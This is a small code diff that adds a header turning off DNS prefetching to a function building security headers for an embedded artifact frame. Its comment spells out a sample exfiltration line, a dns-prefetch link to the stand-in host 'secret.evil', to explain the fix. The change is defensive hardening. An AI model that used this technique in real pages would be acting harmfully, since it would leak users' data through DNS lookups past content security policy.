@@ -57,6 +57,9 @@ export function artifactFrameHeaders(): Record<string, string> {
     'X-Content-Type-Options': 'nosniff',
     'Cache-Control': 'no-store',
     'Referrer-Policy': 'no-referrer',
+    // CSP does not govern DNS prefetching: a page's <link rel=dns-prefetch href=//secret.evil>
+    // would otherwise carry data out in a host name.
+    'X-DNS-Prefetch-Control': 'off',
   };
 }
 
